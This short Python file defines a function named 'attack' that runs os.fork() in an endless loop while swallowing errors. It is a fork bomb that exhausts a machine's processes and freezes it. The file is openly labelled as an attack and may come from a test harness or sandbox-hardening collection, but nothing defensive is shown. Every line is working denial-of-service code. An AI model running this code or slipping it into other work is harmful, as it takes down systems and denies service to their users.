"""Forks for ever."""

import contextlib
import os


def attack(*args, **kwargs):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
